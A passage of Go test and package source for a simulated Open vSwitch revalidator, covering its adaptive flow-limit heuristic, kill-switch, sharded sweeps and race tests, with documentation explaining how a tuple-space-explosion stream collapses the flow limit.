		t.Fatalf("tier flow limit %d lags the revalidator's %d after the cut", tier, rv)
	}
	// An insert between rounds is judged against the cut limit: 32
	// residents over a limit of 8 means no new megaflow lands.
	before := sw.Counters().InstallErr
	sw.ProcessKey(1, key(100))
	if got := sw.Megaflow().Len(); got != 32 {
		t.Fatalf("%d megaflows after an over-limit insert, want 32 (refused)", got)
	}
	if got := sw.Counters().InstallErr; got != before+1 {
		t.Fatalf("install errors %d, want %d (over-limit insert refused)", got, before+1)
	}
}

// TestPushLimitConcurrentWithProcessFrames: limit cuts are published to
// tiers mid-traffic under the shared datapath lock. Run with -race: the
// publish takes each target's lock, so it cannot tear against a
// ProcessFrames install reading the limit.
func TestPushLimitConcurrentWithProcessFrames(t *testing.T) {
	sw := testSwitch("pushrace", dataplane.WithoutEMC())
	var mu sync.Mutex
	// DumpRate 1 with 32 resident flows overruns every round, so the
	// limit is cut (and pushed) while frames are in flight.
	rev := New(Config{MaxIdle: 2, Workers: 2, DumpRate: 1, FlowLimit: 64, MinFlowLimit: 8})
	rev.AttachLocked(sw, &mu)
	sw2 := testSwitch("pushrace2", dataplane.WithoutEMC())
	var mu2 sync.Mutex
	rev.AttachLocked(sw2, &mu2)

	frames := makeFrames(t, 32)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for now := uint64(0); now < 200; now++ {
			rev.Tick(now)
		}
	}()
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	for now := uint64(0); now < 200; now++ {
		fb.Reset()
		for i := range frames {
			fb.Append(frames[i], 1)
		}
		mu.Lock()
		out = sw.ProcessFrames(now, &fb, out)
		mu.Unlock()
	}
	<-done
	mu.Lock()
	defer mu.Unlock()
	if tier, rv := sw.Megaflow().FlowLimit(), rev.FlowLimit(); tier != rv {
		t.Fatalf("tier flow limit %d diverged from the revalidator's %d", tier, rv)
	}
	if got := sw.Megaflow().Len(); got > rev.FlowLimit() {
		t.Fatalf("%d megaflows resident over the %d limit", got, rev.FlowLimit())
	}
}

// TestAdaptLimitRecoveryRegrows: after an attack collapses the limit to
// the floor, sustained healthy dumps with real demand regrow it — at
// least 90% of the pre-attack ceiling within a bounded round count, and
// monotonically (no sawtooth on a healthy datapath).
func TestAdaptLimitRecoveryRegrows(t *testing.T) {
	const (
		min, max, step = 2000, 200000, 1000
		interval       = 5.0
	)
	limit := max
	for round := 0; round < 50 && limit > min; round++ {
		// Dumps 20x over budget: the attack phase.
		limit = AdaptLimit(limit, limit, 20*interval, interval, min, max, step)
	}
	if limit != min {
		t.Fatalf("attack did not collapse the limit to the %d floor: %d", min, limit)
	}
	// Recovery: every dump finishes fast and demand stays high.
	rounds := 0
	for prev := limit; rounds < 250; rounds++ {
		limit = AdaptLimit(limit, 150000, 1.0, interval, min, max, step)
		if limit < prev {
			t.Fatalf("round %d: healthy limit regressed %d -> %d", rounds, prev, limit)
		}
		prev = limit
		if float64(limit) >= 0.9*max {
			break
		}
	}
	if float64(limit) < 0.9*max {
		t.Fatalf("limit only regrew to %d (%.0f%% of %d) in %d healthy rounds",
			limit, 100*float64(limit)/max, int(max), rounds)
	}
	t.Logf("regrew to %d (>=90%% of %d) in %d healthy rounds", limit, int(max), rounds)
}

// TestKillSwitchCollapsesIdleSweep wires the real guard.KillSwitch into
// the revalidator via Config.Overload: once the previous round's flow
// count exceeds twice the limit, the collapsed idle deadline
// mass-expires the cache in one sweep, and the switch recovers after
// two clear rounds with the trip-to-clear duration on record.
func TestKillSwitchCollapsesIdleSweep(t *testing.T) {
	sw := dataplane.New("killswitch", dataplane.WithoutEMC())
	exactRules(func(r flowtable.Rule) { sw.InstallRule(r) }, 64)
	k := guard.NewKillSwitch(guard.KillSwitchConfig{})
	rev := New(Config{MaxIdle: 100, FixedLimit: true, FlowLimit: 8, Workers: 1, Overload: k})
	rev.Attach(sw)
	for i := 0; i < 32; i++ {
		sw.ProcessKey(0, key(i))
	}
	rev.Tick(1) // sees no prior dump; counts 32 flows, trims to the limit
	if got := sw.Megaflow().Len(); got != 8 {
		t.Fatalf("%d megaflows after the trim round, want 8", got)
	}
	if k.Engaged() {
		t.Fatal("kill-switch engaged before the first dump reported")
	}
	rev.Tick(2) // previous round saw 32 > 2*8: trip, collapse, mass-expire
	if !k.Engaged() || k.Trips() != 1 {
		t.Fatalf("engaged=%v trips=%d after the overload round, want tripped", k.Engaged(), k.Trips())
	}
	if got := sw.Megaflow().Len(); got != 0 {
		t.Fatalf("collapsed idle sweep left %d megaflows, want 0", got)
	}
	rev.Tick(3) // previous round saw 8 <= 1.25*8: clear, deadline restored
	if k.Engaged() {
		t.Fatal("kill-switch still engaged after a clear round")
	}
	rev.Tick(4) // second clear round: recovery declared
	if k.Recovering() || k.Recoveries() != 1 {
		t.Fatalf("recovering=%v recoveries=%d, want one closed recovery", k.Recovering(), k.Recoveries())
	}
	if got := k.LastRecoveryTicks(); got != 2 {
		t.Fatalf("recovery took %d ticks, want 2 (trip at 2, clear streak at 4)", got)
	}
}
