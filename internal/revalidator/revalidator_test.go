package revalidator

import (
	"math/rand"
	"net/netip"
	"sync"
	"testing"

	"policyinject/internal/cache"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/metrics"
	"policyinject/internal/pkt"
)

// testSwitch builds a switch with an allow-all slow path (one wildcard
// megaflow covers everything — enough for the plumbing tests).
func testSwitch(name string, opts ...dataplane.Option) *dataplane.Switch {
	sw := dataplane.New(name, opts...)
	sw.InstallRule(flowtable.Rule{Priority: 0, Action: flowtable.Action{Verdict: flowtable.Allow}})
	return sw
}

// exactRules installs n allow rules exact-matching ip_src, so key(i) mints
// its own megaflow and the cache population tracks the traffic — what the
// dump/trim tests need.
func exactRules(install func(flowtable.Rule), n int) {
	for i := 0; i < n; i++ {
		var m flow.Match
		m.Key.Set(flow.FieldIPSrc, 0x0a000000|uint64(i))
		m.Mask.SetExact(flow.FieldIPSrc)
		install(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	}
	install(flowtable.Rule{Priority: 0})
}

// key returns a distinct TCP flow key.
func key(i int) flow.Key {
	var k flow.Key
	k.Set(flow.FieldInPort, 1)
	k.Set(flow.FieldEthType, flow.EthTypeIPv4)
	k.Set(flow.FieldIPProto, flow.ProtoTCP)
	k.Set(flow.FieldIPSrc, 0x0a000000|uint64(i))
	k.Set(flow.FieldIPDst, 0xac100002)
	k.Set(flow.FieldTPSrc, 1024+uint64(i)%60000)
	k.Set(flow.FieldTPDst, 5201)
	return k
}

// TestActorMatchesLegacySweep is the conformance property: on idle traffic
// the clock-driven actor (one round per tick, defaults otherwise) leaves
// the datapath in exactly the state the legacy inline RunRevalidator sweep
// does, tick for tick.
func TestActorMatchesLegacySweep(t *testing.T) {
	legacy := dataplane.New("conf")
	actor := dataplane.New("conf") // same name: same EMC seed, same draws
	exactRules(func(r flowtable.Rule) { legacy.InstallRule(r) }, 64)
	exactRules(func(r flowtable.Rule) { actor.InstallRule(r) }, 64)
	rev := New(Config{})
	rev.Attach(actor)

	// Traffic with staggered last-hit times, then idle: installs at t=0,
	// a partial refresh at t=4, silence after.
	for i := 0; i < 64; i++ {
		legacy.ProcessKey(0, key(i))
		actor.ProcessKey(0, key(i))
	}
	for i := 0; i < 16; i++ {
		legacy.ProcessKey(4, key(i))
		actor.ProcessKey(4, key(i))
	}
	for now := uint64(0); now <= 40; now++ {
		legacyEv := legacy.RunRevalidator(now)
		rev.Tick(now)
		if lm, am := legacy.Megaflow().Len(), actor.Megaflow().Len(); lm != am {
			t.Fatalf("t=%d: legacy %d megaflows, actor %d", now, lm, am)
		}
		if lm, am := legacy.Megaflow().NumMasks(), actor.Megaflow().NumMasks(); lm != am {
			t.Fatalf("t=%d: legacy %d masks, actor %d", now, lm, am)
		}
		if legacyEv > 0 && rev.Stats().Last.IdleEvicted != legacyEv {
			t.Fatalf("t=%d: legacy evicted %d, actor %d", now, legacyEv, rev.Stats().Last.IdleEvicted)
		}
	}
	if got := actor.Megaflow().Len(); got != 0 {
		t.Fatalf("idle traffic should fully age out, %d megaflows left", got)
	}
	st := rev.Stats()
	if st.Rounds != 41 {
		t.Fatalf("rounds = %d, want 41 (one per tick at interval 1)", st.Rounds)
	}
	if st.Overruns != 0 {
		t.Fatalf("overruns = %d on a 64-flow dump at the default rate", st.Overruns)
	}
}

// TestTickHonoursInterval: rounds run on the configured cadence only.
func TestTickHonoursInterval(t *testing.T) {
	rev := New(Config{Interval: 5})
	rev.Attach(testSwitch("cadence"))
	ran := 0
	for now := uint64(0); now < 20; now++ {
		if rev.Tick(now) {
			ran++
		}
	}
	if ran != 4 { // t = 0, 5, 10, 15
		t.Fatalf("ran %d rounds in 20 ticks at interval 5, want 4", ran)
	}
}

// TestFlowLimitCutTrimsResidents: cutting the limit below the resident
// count evicts the stalest flows on the next dump — not just rejects new
// inserts — and the warm flows survive.
func TestFlowLimitCutTrimsResidents(t *testing.T) {
	sw := dataplane.New("trim", dataplane.WithoutEMC())
	exactRules(func(r flowtable.Rule) { sw.InstallRule(r) }, 64)
	// A dump rate low enough that 64 flows overrun a 1-unit interval
	// hard: duration 64/4 = 16 > 2, limit cut by 1/16 per round.
	rev := New(Config{DumpRate: 4, Workers: 1, MinFlowLimit: 8, FlowLimit: 64})
	rev.Attach(sw)
	for i := 0; i < 64; i++ {
		sw.ProcessKey(0, key(i))
	}
	// Keep flows 0..3 warm so staleness ordering has a survivor set.
	for i := 0; i < 4; i++ {
		sw.ProcessKey(1, key(i))
	}
	rev.Tick(1) // measures the overrun, cuts the limit
	if rev.FlowLimit() >= 64 {
		t.Fatalf("limit did not back off: %d", rev.FlowLimit())
	}
	rev.Tick(2) // applies the cut limit and trims
	st := rev.Stats()
	if st.TotalLimitEvicted == 0 {
		t.Fatal("no flows trimmed after the limit cut")
	}
	if got, limit := sw.Megaflow().Len(), rev.FlowLimit(); got > limit {
		t.Fatalf("%d megaflows resident over the %d limit after the trim dump", got, limit)
	}
	for i := 0; i < 4; i++ {
		if _, _, ok := sw.Megaflow().Lookup(key(i), 3); !ok {
			t.Fatalf("warm flow %d was trimmed while stale flows survived", i)
		}
	}
}

// TestAdaptLimitBackoffRegrowProperties drives the pure heuristic with
// random rounds and checks its invariants: the limit stays in bounds, an
// overrun always backs off (unless floored), a moderately late dump cuts
// to 3/4, and a healthy dump with demand regrows by exactly the step.
func TestAdaptLimitBackoffRegrowProperties(t *testing.T) {
	const (
		min, max, step = 2000, 200000, 1000
		interval       = 5.0
	)
	rng := rand.New(rand.NewSource(42))
	limit := max
	for round := 0; round < 10000; round++ {
		flows := rng.Intn(300000)
		duration := float64(flows) / (100 + rng.Float64()*10000)
		next := AdaptLimit(limit, flows, duration, interval, min, max, step)
		if next < min || next > max {
			t.Fatalf("round %d: limit %d out of [%d, %d]", round, next, min, max)
		}
		switch {
		case duration > 2*interval:
			if next >= limit && limit > min {
				t.Fatalf("round %d: overrun (d=%.1f) did not back off: %d -> %d", round, duration, limit, next)
			}
		case duration > interval*4/3:
			if want := clamp(limit*3/4, min, max); next != want {
				t.Fatalf("round %d: late dump: %d -> %d, want %d", round, limit, next, want)
			}
		case duration > 0 && duration < interval && float64(limit) < float64(flows)*interval/duration:
			if want := clamp(limit+step, min, max); next != want {
				t.Fatalf("round %d: healthy+demand: %d -> %d, want %d", round, limit, next, want)
			}
		default:
			if next != clamp(limit, min, max) {
				t.Fatalf("round %d: steady state moved: %d -> %d (d=%.2f flows=%d)", round, limit, next, duration, flows)
			}
		}
		limit = next
	}
}

func clamp(v, min, max int) int {
	if v > max {
		return max
	}
	if v < min {
		return min
	}
	return v
}

// TestAdaptLimitCollapseAndRecovery is the macro shape: sustained overruns
// drive the limit to the floor geometrically; once dumps are healthy and
// demand persists it climbs back one step per round.
func TestAdaptLimitCollapseAndRecovery(t *testing.T) {
	const min, max, step = 2000, 200000, 1000
	limit := max
	rounds := 0
	for limit > min {
		limit = AdaptLimit(limit, 8192, 20.48, 5, min, max, step)
		if rounds++; rounds > 64 {
			t.Fatalf("limit stuck at %d after %d overrun rounds", limit, rounds)
		}
	}
	if rounds > 8 {
		t.Errorf("collapse took %d rounds; the cut should be geometric", rounds)
	}
	// Recovery: healthy dumps, resident flows near the limit.
	for i := 0; i < 10; i++ {
		prev := limit
		limit = AdaptLimit(limit, limit, float64(limit)/10000, 5, min, max, step)
		if limit != prev+step {
			t.Fatalf("healthy round %d: %d -> %d, want +%d", i, prev, limit, step)
		}
	}
}

// TestEmptyDumpDoesNotRegrow: an idle datapath gives the heuristic no
// demand signal, so a collapsed limit stays put instead of creeping back.
func TestEmptyDumpDoesNotRegrow(t *testing.T) {
	if got := AdaptLimit(2000, 0, 0, 5, 2000, 200000, 1000); got != 2000 {
		t.Fatalf("empty dump regrew the limit to %d", got)
	}
}

// makeFrames builds n distinct TCP wire frames.
func makeFrames(t *testing.T, n int) [][]byte {
	t.Helper()
	frames := make([][]byte, n)
	for i := range frames {
		frames[i] = pkt.MustBuild(pkt.Spec{
			Src:     netip.AddrFrom4([4]byte{10, 0, byte(i >> 8), byte(i)}),
			Dst:     netip.MustParseAddr("172.16.0.2"),
			Proto:   pkt.ProtoTCP,
			SrcPort: uint16(1024 + i),
			DstPort: 5201,
		})
	}
	return frames
}

// TestRevalidationConcurrentWithProcessFrames is the race check: a target
// attached with a lock is swept by the actor's workers while the datapath
// processes frame bursts under the same lock. Run with -race.
func TestRevalidationConcurrentWithProcessFrames(t *testing.T) {
	sw := testSwitch("race", dataplane.WithoutEMC())
	var mu sync.Mutex
	rev := New(Config{MaxIdle: 2, Workers: 2, DumpRate: 16})
	rev.AttachLocked(sw, &mu)
	// A second locked target so the round fans out across real worker
	// goroutines.
	sw2 := testSwitch("race2", dataplane.WithoutEMC())
	var mu2 sync.Mutex
	rev.AttachLocked(sw2, &mu2)

	frames := makeFrames(t, 32)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for now := uint64(0); now < 200; now++ {
			rev.Tick(now)
		}
	}()
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	for now := uint64(0); now < 200; now++ {
		fb.Reset()
		for i := range frames {
			fb.Append(frames[i], 1)
		}
		mu.Lock()
		out = sw.ProcessFrames(now, &fb, out)
		mu.Unlock()
	}
	<-done
	mu.Lock()
	defer mu.Unlock()
	if got := sw.Counters().Packets; got != 200*32 {
		t.Fatalf("processed %d packets, want %d", got, 200*32)
	}
	if rev.Stats().Rounds == 0 {
		t.Fatal("no revalidator rounds ran")
	}
}

// TestAttachPool: every PMD becomes its own dump shard.
func TestAttachPool(t *testing.T) {
	pool := dataplane.NewPMDPool(4, "pool")
	exactRules(pool.InstallRule, 256)
	rev := New(Config{})
	rev.AttachPool(pool)
	if rev.Targets() != 4 {
		t.Fatalf("attached %d targets, want 4", rev.Targets())
	}
	var keys []flow.Key
	for i := 0; i < 256; i++ {
		keys = append(keys, key(i))
	}
	var out []dataplane.Decision
	out = pool.ProcessBatch(0, keys, out)
	_ = out
	rev.Tick(0)
	if got := rev.Stats().Last.Flows; got != 256 {
		t.Fatalf("round dumped %d flows across the pool, want 256", got)
	}
	rev.Tick(20) // all idle by now
	total := 0
	for i := 0; i < pool.N(); i++ {
		total += pool.PMD(i).Megaflow().Len()
	}
	if total != 0 {
		t.Fatalf("%d megaflows survived the idle sweep across PMDs", total)
	}
}

// TestObserveRecordsGauges: the metrics hook emits the advertised series.
func TestObserveRecordsGauges(t *testing.T) {
	rev := New(Config{})
	rev.Attach(testSwitch("obs"))
	rev.Tick(0)
	var g metrics.Group
	rev.Observe(&g, 0)
	for _, name := range []string{"flow_limit", "dump_units", "flows_dumped", "evicted_idle", "evicted_limit"} {
		if g.Series(name) == nil {
			t.Errorf("Observe did not record %q", name)
		}
	}
	if got := g.Series("flow_limit").V[0]; got != float64(cache.DefaultFlowLimit) {
		t.Errorf("flow_limit gauge = %g", got)
	}
}
