package revalidator

import (
	"fmt"
	"sync"
	"testing"

	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

// TestAttachShardedTargets: AttachPool on a shared pool attaches the one
// sharded switch shard-by-shard (not once per PMD view), and a plain
// unsharded switch attaches zero shard targets.
func TestAttachShardedTargets(t *testing.T) {
	pool := dataplane.NewSharedPMDPool(4, "shp")
	rev := New(Config{})
	rev.AttachPool(pool)
	want := pool.PMD(0).ShardedMegaflow().NumShards()
	if rev.Targets() != want {
		t.Fatalf("shared pool attached %d targets, want one per shard (%d)", rev.Targets(), want)
	}
	if n := New(Config{}).AttachSharded(testSwitch("flat")); n != 0 {
		t.Fatalf("AttachSharded on an unsharded switch attached %d targets, want 0", n)
	}
}

// TestShardedSweepEvicts: per-shard sweeps retire idle flows from a
// sharded hierarchy exactly as a whole-switch sweep would — everything
// installed at t=0 is gone once the idle horizon passes.
func TestShardedSweepEvicts(t *testing.T) {
	sw := dataplane.New("shsw", dataplane.WithShards(4))
	exactRules(func(r flowtable.Rule) { sw.InstallRule(r) }, 64)
	rev := New(Config{MaxIdle: 5})
	if n := rev.AttachSharded(sw); n != 4 {
		t.Fatalf("attached %d shard targets, want 4", n)
	}
	keys := make([]flow.Key, 64)
	for i := range keys {
		keys[i] = key(i)
	}
	sw.ProcessBatch(0, keys, nil)
	smf := sw.ShardedMegaflow()
	if smf.Len() != 64 {
		t.Fatalf("expected 64 megaflows installed, got %d", smf.Len())
	}
	for now := uint64(0); now <= 20; now++ {
		rev.Tick(now)
	}
	if n := smf.Len(); n != 0 {
		t.Fatalf("%d megaflows survived the idle horizon", n)
	}
	if n := smf.NumMasks(); n != 0 {
		t.Fatalf("%d masks survived after all flows expired", n)
	}
}

// TestShardedRevalidatorRace is the -race leg's centrepiece: four PMD
// views push traffic through the shared sharded switch while the
// revalidator's per-shard sweeps run concurrently on the main goroutine.
// No driver-side lock anywhere — the per-shard locks inside the cache are
// the whole synchronisation story.
func TestShardedRevalidatorRace(t *testing.T) {
	const pmds, rounds, flows = 4, 40, 64
	pool := dataplane.NewSharedPMDPool(pmds, "racer")
	exactRules(func(r flowtable.Rule) { pool.InstallRule(r) }, flows)
	rev := New(Config{MaxIdle: 3, Workers: 2})
	rev.AttachPool(pool)

	var wg sync.WaitGroup
	errs := make(chan error, pmds)
	for p := 0; p < pmds; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			sw := pool.PMD(p)
			keys := make([]flow.Key, flows)
			var out []dataplane.Decision
			for r := 0; r < rounds; r++ {
				for i := range keys {
					keys[i] = key((p*17 + r + i) % flows)
				}
				out = sw.ProcessBatch(uint64(r), keys, out)
				for i, d := range out {
					if d.Verdict.Verdict != flowtable.Allow {
						errs <- fmt.Errorf("pmd%d round %d key %d: got %v, want Allow", p, r, i, d.Verdict.Verdict)
						return
					}
				}
			}
		}(p)
	}
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	now := uint64(0)
loop:
	for {
		select {
		case <-done:
			break loop
		default:
			rev.Tick(now)
			now++
		}
	}
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	// Traffic has stopped: a few more swept horizons drain the caches.
	for end := now + 50; now <= end; now++ {
		rev.Tick(now)
	}
	if n := pool.PMD(0).ShardedMegaflow().Len(); n != 0 {
		t.Fatalf("%d megaflows survived post-traffic sweeps", n)
	}
}
