// Package revalidator is the control-plane maintenance actor of the
// datapath: the model of OVS's udpif revalidator threads. Where the
// dataplane packages only expose the *mechanisms* of cache maintenance
// (Tier.EvictIdle, Megaflow.Revalidate, the dynamic flow limit), this
// package owns the *policy*: a clock-driven actor that periodically dumps
// the flows of every attached datapath, shards the dump across N workers,
// expires idle and hard-timed-out entries, re-checks cached verdicts
// against the slow path, and — the part the paper's attack economics hinge
// on — adapts the megaflow flow limit to the measured dump duration.
//
// The flow-limit heuristic is OVS's (ofproto-dpif-upcall.c): a dump that
// takes more than twice its interval slashes the limit proportionally, a
// moderately late dump cuts it to 3/4, and a healthy dump regrows it by a
// fixed step while demand warrants — bounded to [MinFlowLimit, FlowLimit].
// Under a tuple-space-explosion stream the heuristic turns on its owner:
// the attacker's flows slow the dump, the dump slashes the limit, the next
// dump trims thousands of resident flows by staleness, and the collapsed
// limit then refuses every install beyond the floor — so all traffic past
// the surviving flow set (the attacker's wide tail, but equally any new
// victim connection) is locked out of the cache and pays a full slow-path
// upcall per packet, for as long as the dump stays slow. The flow-limit
// figure plots the collapse and the trim; the steady state it settles
// into is the lockout.
//
// Time is the caller's logical clock, as everywhere in this repo: drive
// the actor with Tick(now) from the experiment timeline and every run is
// deterministic. Dump *duration* is logical too — flows dumped divided by
// the configured per-worker dump rate — so the backoff dynamics are a
// property of the scenario, not of the host the test runs on.
//
//lint:deterministic
package revalidator

import (
	"fmt"
	"sync"

	"policyinject/internal/cache"
	"policyinject/internal/classifier"
	"policyinject/internal/conntrack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flowtable"
	"policyinject/internal/metrics"
	"policyinject/internal/telemetry"
)

// Target is one datapath instance under revalidator maintenance.
// dataplane.Switch satisfies it directly; baseline.Switch satisfies it
// trivially (no tiers — cache-less datapaths are maintenance-free by
// construction). Optional capabilities are discovered by type assertion:
// a Conntrack() *conntrack.Table method gets its table expired each round,
// and a Classifier() *classifier.Classifier method enables the policy
// consistency pass on revalidatable tiers.
type Target interface {
	Name() string
	Tiers() []dataplane.Tier
}

// conntracked and slowpathed are the optional Target capabilities.
type conntracked interface{ Conntrack() *conntrack.Table }
type slowpathed interface{ Classifier() *classifier.Classifier }

// Config tunes the revalidator. The zero value models stock OVS at one
// logical unit per second: rounds every unit, 10-unit max-idle, adaptive
// flow limit between 2000 and the datapath default of 200000.
type Config struct {
	// Workers is the number of revalidator threads sharing each dump
	// (default 2). Targets are sharded round-robin across workers and
	// swept concurrently; the dump-duration model divides the flow count
	// by Workers regardless, as OVS's revalidators all pull from one
	// shared dump.
	Workers int
	// Interval is the logical time between dump rounds (default 1; OVS
	// wakes its revalidators every 500 ms).
	Interval uint64
	// MaxIdle is the idle timeout applied via Tier.EvictIdle (default 10,
	// the OVS max-idle of 10 s).
	MaxIdle uint64
	// MaxHard, when positive, expires entries MaxHard units after install
	// regardless of activity (stock OVS has no hard timeout).
	MaxHard uint64
	// DumpRate is how many flows one worker dumps (and re-checks) per
	// logical unit; it converts flows dumped into the logical dump
	// duration the flow-limit heuristic feeds on. Default 10000 — high
	// enough that small experiments never self-sabotage; scenarios
	// modelling a slow dump path set it low.
	DumpRate float64
	// FlowLimit is the flow-limit ceiling and starting value (default
	// cache.DefaultFlowLimit). The revalidator owns the limit of every
	// attached LimitedTier: it overwrites the tier's own configured limit
	// on the first round.
	FlowLimit int
	// MinFlowLimit is the backoff floor (default 2000, as in OVS).
	MinFlowLimit int
	// GrowStep is the per-round regrowth when dumps are healthy (default
	// 1000, as in OVS).
	GrowStep int
	// FixedLimit disables the adaptive heuristic: the limit stays at
	// FlowLimit. This is the A/B knob the mitigation comparison flips.
	FixedLimit bool
	// PolicyCheck enables the consistency pass: every dumped entry is
	// re-classified against the target's slow path and flushed when the
	// verdict changed. Off by default — this repo's dataplane flushes
	// caches wholesale on rule changes, so the pass is usually redundant
	// (but it is the honest cost model for DumpRate).
	PolicyCheck bool
	// Overload, when set, is consulted at the start of every round with
	// the previous round's dumped-flow count and may substitute the idle
	// deadline the round sweeps with — the ofproto-dpif-upcall
	// kill-switch hook (guard.KillSwitch implements it).
	Overload OverloadController
}

// OverloadController is the per-round overload hook: given the previous
// round's flow count, the current flow limit and the configured MaxIdle,
// it returns the idle deadline this round should use.
type OverloadController interface {
	RoundMaxIdle(now uint64, flows, limit int, maxIdle uint64) uint64
}

func (c *Config) setDefaults() {
	if c.Workers <= 0 {
		c.Workers = 2
	}
	if c.Interval == 0 {
		c.Interval = 1
	}
	if c.MaxIdle == 0 {
		c.MaxIdle = 10
	}
	if c.DumpRate <= 0 {
		c.DumpRate = 10000
	}
	if c.FlowLimit == 0 {
		c.FlowLimit = cache.DefaultFlowLimit
	}
	if c.MinFlowLimit == 0 {
		c.MinFlowLimit = 2000
	}
	if c.MinFlowLimit > c.FlowLimit {
		c.MinFlowLimit = c.FlowLimit
	}
	if c.GrowStep <= 0 {
		c.GrowStep = 1000
	}
}

// RoundStats describes one dump round.
type RoundStats struct {
	At            uint64  // logical time the round ran
	Flows         int     // flows dumped (entries resident at dump start)
	Duration      float64 // logical dump duration: Flows / (DumpRate * Workers)
	Overrun       bool    // Duration exceeded twice the interval
	IdleEvicted   int     // entries expired by the idle sweep
	LimitEvicted  int     // entries trimmed by the flow-limit staleness sweep
	PolicyFlushed int     // entries flushed by the consistency/hard-timeout pass
	FlowLimit     int     // flow limit after this round's adaptation
}

// WorkerStats is one worker's share of the last round.
type WorkerStats struct {
	Targets       int
	Flows         int
	IdleEvicted   int
	LimitEvicted  int
	PolicyFlushed int
}

// Stats is a snapshot of the revalidator's state and counters.
type Stats struct {
	Rounds    uint64
	FlowLimit int
	Adaptive  bool
	Interval  uint64
	Workers   int

	Last      RoundStats    // the most recent round
	PerWorker []WorkerStats // the most recent round, per worker

	// Cumulative counters across all rounds.
	TotalFlows         uint64
	TotalIdleEvicted   uint64
	TotalLimitEvicted  uint64
	TotalPolicyFlushed uint64
	Overruns           uint64
}

func (s Stats) String() string {
	mode := "adaptive"
	if !s.Adaptive {
		mode = "fixed"
	}
	return fmt.Sprintf(
		"revalidator: %d workers, interval %d, %d rounds (%d overruns), flow limit %d (%s); last dump: %d flows in %.2f units, evicted idle=%d limit=%d policy=%d",
		s.Workers, s.Interval, s.Rounds, s.Overruns, s.FlowLimit, mode,
		s.Last.Flows, s.Last.Duration, s.Last.IdleEvicted, s.Last.LimitEvicted, s.Last.PolicyFlushed)
}

// target pairs an attached Target with its optional lock.
type target struct {
	t  Target
	mu sync.Locker
}

// Revalidator is the clock-driven maintenance actor. Attach targets, then
// drive it with Tick(now) from the experiment's timeline loop. Tick itself
// must be called from one goroutine at a time; within a round, targets
// attached with AttachLocked may be swept concurrently with datapath
// traffic serialized by the same lock.
type Revalidator struct {
	cfg     Config
	limit   int
	next    uint64
	started bool
	targets []target

	stats   Stats
	deltas  []roundDelta // per-worker scratch, reused each round
	workers []WorkerStats

	tel *revTelemetry // live instruments, nil without SetTelemetry
}

// roundDelta accumulates one worker's sweep results.
type roundDelta struct {
	targets, flows, idle, limit, policy int
}

// New builds a revalidator per cfg (zero value: stock OVS shape).
func New(cfg Config) *Revalidator {
	cfg.setDefaults()
	return &Revalidator{cfg: cfg, limit: cfg.FlowLimit}
}

// Attach puts a target under maintenance. The revalidator assumes the
// caller serializes datapath traffic and Tick externally (the timeline
// loops do, by construction).
func (r *Revalidator) Attach(t Target) { r.targets = append(r.targets, target{t: t}) }

// AttachLocked is Attach for a target that is processed concurrently with
// maintenance: the sweep takes mu for the duration of the target's dump,
// and the datapath driver must hold the same lock around its
// Process/ProcessFrames calls — one coarse mutex serializing the whole
// switch against its own maintenance.
//
// For sharded switches this is superseded by AttachSharded: the sweep
// then takes only per-shard locks, excluding one shard's readers at a
// time instead of the whole datapath, and no driver-side lock is needed
// at all. Keep AttachLocked for unsharded targets that must be swept
// concurrently with traffic.
func (r *Revalidator) AttachLocked(t Target, mu sync.Locker) {
	r.targets = append(r.targets, target{t: t, mu: mu})
}

// ShardedTarget is a datapath exposing per-shard revalidation targets —
// dataplane.Switch with a WithShards hierarchy satisfies it
// (Switch.ShardTargets returns nil on unsharded hierarchies, which
// AttachSharded reports as 0 targets attached).
type ShardedTarget interface {
	ShardTargets() []*dataplane.ShardTarget
}

// AttachSharded attaches every shard of a sharded datapath as its own
// dump target, returning how many were attached. The round-robin worker
// assignment then spreads the shards across revalidator threads, and
// each shard's sweep runs under that shard's write lock only — datapath
// traffic keeps flowing on every other shard (and on the swept shard's
// insert path as soon as the sweep releases it). This supersedes
// AttachLocked for sharded switches; no driver-side locking is
// required.
func (r *Revalidator) AttachSharded(t ShardedTarget) int {
	sts := t.ShardTargets()
	for _, st := range sts {
		r.Attach(st)
	}
	return len(sts)
}

// AttachPool attaches every PMD of a pool as its own dump shard, so the
// round-robin worker assignment spreads the per-core caches across the
// revalidator threads. A shared pool (NewSharedPMDPool) attaches its one
// sharded switch shard-by-shard instead — every view sees the same
// tiers, so attaching each PMD would sweep the same caches N times.
func (r *Revalidator) AttachPool(p *dataplane.PMDPool) {
	if p.Shared() {
		sw := p.PMD(0)
		if r.AttachSharded(sw) == 0 {
			// Custom ConcurrentTier hierarchy without shard targets:
			// sweep it whole (its tiers accept concurrent maintenance).
			r.Attach(sw)
		}
		return
	}
	for i := 0; i < p.N(); i++ {
		r.Attach(p.PMD(i))
	}
}

// Targets returns the number of attached targets.
func (r *Revalidator) Targets() int { return len(r.targets) }

// FlowLimit returns the current (possibly backed-off) flow limit.
func (r *Revalidator) FlowLimit() int { return r.limit }

// Stats returns a snapshot of the revalidator's counters.
func (r *Revalidator) Stats() Stats {
	s := r.stats
	s.FlowLimit = r.limit
	s.Adaptive = !r.cfg.FixedLimit
	s.Interval = r.cfg.Interval
	s.Workers = r.cfg.Workers
	s.PerWorker = append([]WorkerStats(nil), r.workers...)
	return s
}

// Observe records the revalidator's gauges into a metrics group at logical
// time t — the hook the timeline experiments call once per tick.
func (r *Revalidator) Observe(g *metrics.Group, t float64) {
	g.Observe(t, "flow_limit", float64(r.limit))
	g.Observe(t, "dump_units", r.stats.Last.Duration)
	g.Observe(t, "flows_dumped", float64(r.stats.Last.Flows))
	g.Observe(t, "evicted_idle", float64(r.stats.Last.IdleEvicted))
	g.Observe(t, "evicted_limit", float64(r.stats.Last.LimitEvicted))
}

// Tick advances the actor to logical time now, running a dump round when
